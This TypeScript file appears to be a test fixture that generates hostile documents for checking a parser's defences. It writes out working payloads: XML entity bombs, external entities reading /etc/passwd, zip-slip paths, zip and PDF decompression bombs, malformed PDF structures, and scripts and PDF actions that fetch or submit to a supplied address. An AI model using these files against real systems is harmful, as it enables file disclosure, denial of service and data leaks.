import { deflateSync } from 'node:zlib';
import { bookParts } from './book.ts';
import { letterParts } from './letter-odt.ts';
import { pdf } from './pdf.ts';
import { type Part, textParts, zip } from './zip.ts';

const MEGABYTE = 1024 * 1024;
const GIGABYTE = 1024 * MEGABYTE;

/** Ten entities of which each is ten of the one before, and two that point outside. */
function entities(address: string): string {
  const ten = Array.from({ length: 10 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`);
  return `<!DOCTYPE x [<!ENTITY e0 "bomb">${ten.join('')}<!ENTITY far SYSTEM "${address}/entity"><!ENTITY near SYSTEM "file:///etc/passwd">
<!ENTITY % more SYSTEM "${address}/dtd"> %more;]>`;
}

/** Whatever a page has to run something, to fetch something or to go elsewhere. */
function calling(address: string): string {
  return `<img src="${address}/img" onerror="fetch('${address}/onerror')"><script src="${address}/script"></script>
<script>fetch('${address}/run')</script><link rel="stylesheet" href="${address}/style"><style>@import "${address}/import"; p { background: url(${address}/url) }</style>
<iframe src="${address}/frame"></iframe><object data="${address}/object"></object><video src="${address}/video" autoplay></video>
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${address}/onload')"><image href="${address}/svg"/><script>fetch('${address}/svgscript')</script></svg>
<a href="javascript:fetch('${address}/link')">a link</a> <p onclick="x()">Said the keeper.</p>`;
}

const docx = (document: string, more: readonly Part[] = []) =>
  zip([...textParts({ '[Content_Types].xml': '<Types/>', 'word/document.xml': document }), ...more]);

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** A PDF of one page, and something in the file replaced. */
function pdfWith(what: string | RegExp, by: string): Uint8Array {
  const file = Buffer.from(pdf([[{ text: 'Said the keeper', x: 60, y: 700 }]])).toString('latin1');
  return Buffer.from(file.replace(what, by), 'latin1');
}

/** A PDF whose page holds 64 megabytes of nothing in a few kilobytes. */
function pdfBomb(): Uint8Array {
  const packed = deflateSync(Buffer.alloc(64 * MEGABYTE, ' ')).toString('latin1');
  return pdfWith(
    /<< \/Length \d+ >>\nstream\n[\s\S]*?\nendstream/,
    `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream`,
  );
}

function nestedZip(depth: number): Uint8Array {
  let inner: Part = { name: 'zeros.txt', bytes: Buffer.alloc(3 * MEGABYTE) };
  for (let at = 0; at < depth; at++)
    inner = {
      name: `${at}.zip`,
      bytes: zip(Array.from({ length: 3 }, (_, copy) => ({ ...inner, name: `${copy}-${inner.name}` }))),
    };
  return inner.bytes;
}

/**
 * Documents made to harm whoever opens them, by file name.
 * @param address where they would report to
 */
export function hostileDocuments(address: string): Readonly<Record<string, Uint8Array>> {
  const words = `<w:document ${WORD}><w:body>${paragraph('Said the keeper')}</w:body></w:document>`;
  const odt = (content: string) => zip(textParts({ ...letterParts(), 'content.xml': content }));
  const epub = (one: string) => zip(textParts({ ...bookParts(3), 'OEBPS/text/one.xhtml': one }));
  const xhtml = (inside: string) => `<html xmlns="http://www.w3.org/1999/xhtml"><body>${inside}</body></html>`;
  return {
    'bomb.docx': docx(words, [{ name: 'word/styles.xml', bytes: Buffer.alloc(300 * MEGABYTE) }, ...styled()]),
    'declared.docx': zip([
      ...textParts({ '[Content_Types].xml': '<Types/>' }),
      { name: 'word/document.xml', bytes: Buffer.from(words), size: GIGABYTE },
    ]),
    'lying.docx': zip([
      ...textParts({ '[Content_Types].xml': '<Types/>' }),
      { name: 'word/document.xml', bytes: Buffer.from(words), size: 10 },
    ]),
    'slip.docx': docx(words, textParts({ '../../../slipped.txt': 'x' })),
    'entities.docx': docx(
      `${entities(address)}<w:document ${WORD}><w:body>${paragraph('&e10;&far;&near;')}</w:body></w:document>`,
    ),
    'deep.docx': docx(
      `<w:document ${WORD}><w:body>${'<w:sdt>'.repeat(60_000)}${'</w:sdt>'.repeat(60_000)}</w:body></w:document>`,
    ),
    'entities.odt': odt(`${entities(address)}<x>&e10;&far;&near;</x>`),
    'deep.odt': odt(`${'<a>'.repeat(60_000)}${'</a>'.repeat(60_000)}`),
    'entities.epub': epub(`${entities(address)}${xhtml('<p>&e10;&far;&near;</p>')}`),
    'calling.epub': epub(xhtml(calling(address))),
    'deep.html': Buffer.from(`<!doctype html>${'<div>'.repeat(60_000)}Said the keeper`),
    'calling.html': Buffer.from(
      `<!doctype html><base href="${address}/"><meta http-equiv="refresh" content="0; url=${address}/refresh">${calling(address)}`,
    ),
    'entities.html': Buffer.from(`${entities(address)}<html><p>&e10;&far; said the keeper</p></html>`),
    'calling.svg': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${calling(address)}</svg>`),
    'calling.md': Buffer.from(`# Lamp\n\n${calling(address)}\n\n![x](${address}/md)\n`),
    'entities.fodt': Buffer.from(
      `<?xml version="1.0"?>${entities(address)}<office:document office:mimetype="application/vnd.oasis.opendocument.text">&e10;</office:document>`,
    ),
    'loop.pdf': pdfWith('/Kids [5 0 R]', '/Kids [2 0 R]'),
    'xref.pdf': pdfWith(/startxref\n\d+/, 'startxref\n99999999'),
    'chained.pdf': pdfWith(/trailer <<([^>]*)>>\nstartxref\n(\d+)/, 'trailer <<$1 /Prev $2>>\nstartxref\n$2'),
    'declared.pdf': pdfWith(/\/Length \d+/, `/Length ${GIGABYTE}`),
    'pages.pdf': pdfWith('/Count 1', '/Count 2000000000'),
    'bomb.pdf': pdfBomb(),
    'calling.pdf': pdfWith(
      '/Type /Catalog',
      `/Type /Catalog /OpenAction << /S /JavaScript /JS (this.submitForm\\('${address}/pdf'\\)) >> /AA << /O << /S /URI /URI (${address}/open) >> >>`,
    ),
    'data.rtf': Buffer.from(`{\\rtf1 a\\bin2000000000 ${'\0'.repeat(1000)}}`, 'latin1'),
    'deep.rtf': Buffer.from(`{\\rtf1 ${'{\\b'.repeat(200_000)} b`, 'latin1'),
    'pictures.rtf': Buffer.from(
      `{\\rtf1 a{\\pict\\wmetafile8 ${'00'.repeat(4 * MEGABYTE)}}{\\field{\\*\\fldinst INCLUDEPICTURE "${address}/rtf"}}b}`,
      'latin1',
    ),
    'nested.zip': nestedZip(6),
    'slip.zip': zip(textParts({ '../../slipped.txt': 'Slipped', '/tmp/slipped.txt': 'Slipped' })),
    'endless.srt': Buffer.from('1\n99999999:99:99,999 --> 00:00:00,000\nSaid the keeper\n'),
  };
}

/** So that the bomb among its parts is looked into. */
function styled(): Part[] {
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles';
  return textParts({
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${type}" Target="styles.xml"/></Relationships>`,
  });
}
